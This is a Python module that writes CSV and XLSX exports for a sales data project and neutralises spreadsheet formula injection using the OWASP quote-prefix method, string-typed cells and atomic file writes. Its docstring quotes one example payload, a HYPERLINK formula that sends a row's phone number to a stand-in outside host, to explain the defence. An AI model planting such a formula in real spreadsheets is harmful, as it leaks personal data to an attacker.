"""Every file a person opens in a spreadsheet is written here: CSV and XLSX.

Call lists, HQ's reports, commission statements, outlet grades, economics tables: their text
cells carry what the data mart and config hold (customer and shop names, campaign names, notes),
and a spreadsheet turns a text that starts with ``=``, ``+``, ``-`` or ``@`` into a formula
(CSV injection, CWE-1236): ``=HYPERLINK("http://x.example/?"&B2,"点击查看")`` in a customer name
would send the row's phone number to an outside site when clicked. So:

* **CSV** (UTF-8 with BOM, so Excel shows the Chinese): a *text* cell that starts with ``=``,
  ``+``, ``-``, ``@``, tab or carriage return gets a leading single quote, as OWASP recommends
  ("CSV Injection"), and every text field is wrapped in double quotes (a line break or a lone
  carriage return inside a name stays inside its cell). Numbers stay numbers: a numeric column (and a number
  in a mixed column) is written as it is, so a genuine ``-12.5`` is still ``-12.5``.
* **XLSX**: every text cell is written with the string type (``t="inlineStr"``, never ``<f>``),
  so nothing is a formula; a text that starts with one of those characters also gets Excel's
  quote prefix style, so it stays text when a person edits the cell. The value itself is
  unchanged. Characters XML cannot carry (control characters a data mart may hold) become U+FFFD
  instead of failing the whole file.

Writes are atomic (a reader, e.g. the county portal, never sees half a file).
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import os
import tempfile
from decimal import Decimal
from pathlib import Path
from typing import Callable, Iterable, Mapping

import pandas as pd

from qz_outbound.clock import SHANGHAI

# OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def neutralise(value: object) -> object:
    """A CSV cell: a text that a spreadsheet would read as a formula gets a leading ``'``."""
    return "'" + value if is_formula_like(value) else value


def atomic_write(path: Path, write: Callable[[str], None]) -> Path:
    """Call ``write(tmp)`` on a temporary file beside ``path``, then move it into place."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=".tmp-", suffix=path.suffix)
    os.close(fd)
    try:
        write(tmp)
        os.replace(tmp, path)
    finally:
        if os.path.exists(tmp):
            os.unlink(tmp)
    return path


def _text_columns(frame: pd.DataFrame) -> list:
    return [c for c in frame.columns
            if pd.api.types.is_object_dtype(frame[c]) or pd.api.types.is_string_dtype(frame[c])
            or isinstance(frame[c].dtype, pd.CategoricalDtype)]


def csv_safe(frame: pd.DataFrame, index: bool = False) -> pd.DataFrame:
    """The frame as it goes into a CSV: text cells (and headers) neutralised, numbers untouched."""
    out = frame.reset_index() if index else frame.copy()
    out.columns = [neutralise(str(c)) if not isinstance(c, (int, float)) else c for c in out.columns]
    for col in _text_columns(out):
        out[col] = out[col].astype(object).map(neutralise)
    return out


def write_csv(frame: pd.DataFrame, path: Path, index: bool = False) -> Path:
    """``frame`` as CSV (UTF-8 with BOM), text cells neutralised; ``index`` writes the index as
    the first column(s)."""
    safe = csv_safe(frame, index=index)
    # every text field in double quotes (OWASP): a carriage return inside a name must not end the row
    # (the csv module's minimal quoting leaves a lone CR bare, and a spreadsheet breaks the row there)
    return atomic_write(Path(path), lambda p: safe.to_csv(p, index=False, encoding="utf-8-sig",
                                                          quoting=csv.QUOTE_NONNUMERIC))


def _cell_value(value: object) -> object:
    """A pandas/numpy value as openpyxl takes it (missing -> empty cell)."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    elif hasattr(value, "item") and not isinstance(value, (str, bytes, Decimal)):   # numpy scalars
        value = value.item()
        if isinstance(value, float) and math.isnan(value):
            return None
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones: the project's one, Asia/Shanghai, as HQ reads every time
        value = value.astimezone(SHANGHAI).replace(tzinfo=None)
    if isinstance(value, (str, int, float, Decimal, bool, dt.date, dt.time)):
        return value
    return str(value)


def _sheet(workbook, title: str, frame: pd.DataFrame, widths: Iterable[float] | None,
           freeze: str | None, index: bool) -> None:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(title=title[:31])
    data = frame.reset_index() if index else frame
    bold = Font(bold=True)

    def put(row: int, col: int, value: object, header: bool = False) -> None:
        value = _cell_value(value)
        cell = sheet.cell(row=row, column=col)
        if isinstance(value, str):
            cell.value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
            cell.data_type = "s"          # text, never a formula, whatever it starts with
            if is_formula_like(value):
                cell.quotePrefix = True   # and it stays text when a person edits the cell
        else:
            cell.value = value
        if header:
            cell.font = bold

    for j, name in enumerate(data.columns, start=1):
        put(1, j, name if isinstance(name, (int, float)) else str(name), header=True)
    for i, row in enumerate(data.itertuples(index=False, name=None), start=2):
        for j, value in enumerate(row, start=1):
            put(i, j, value)
    for j, width in enumerate(widths or (), start=1):
        sheet.column_dimensions[get_column_letter(j)].width = width
    if freeze:
        sheet.freeze_panes = freeze


def write_xlsx(path: Path, sheets: Mapping[str, pd.DataFrame], widths: Mapping[str, Iterable[float]] | None = None,
               freeze: Mapping[str, str] | None = None, index: bool = False) -> Path:
    """One workbook with a sheet per ``sheets`` entry (title -> frame), text cells as text.

    ``widths``: column widths per sheet title; ``freeze``: the freeze-panes cell per sheet title.
    """
    import openpyxl

    def write(p: str) -> None:
        workbook = openpyxl.Workbook()
        workbook.remove(workbook.active)
        for title, frame in sheets.items():
            _sheet(workbook, title, frame, (widths or {}).get(title), (freeze or {}).get(title), index)
        workbook.save(p)

    return atomic_write(Path(path), write)


def write_pair(stem: Path, frame: pd.DataFrame, sheet: str, widths: Iterable[float] | None = None,
               freeze: str | None = None) -> tuple[Path, Path]:
    """``<stem>.csv`` and ``<stem>.xlsx`` of one frame (the call lists' and statements' pair)."""
    stem = Path(stem)
    csv_path = write_csv(frame, stem.parent / f"{stem.name}.csv")
    xlsx_path = write_xlsx(stem.parent / f"{stem.name}.xlsx", {sheet: frame},
                           widths={sheet: widths} if widths else None, freeze={sheet: freeze} if freeze else None)
    return csv_path, xlsx_path


__all__ = ["FORMULA_START", "neutralise", "is_formula_like", "csv_safe", "write_csv", "write_xlsx", "write_pair",
           "atomic_write"]
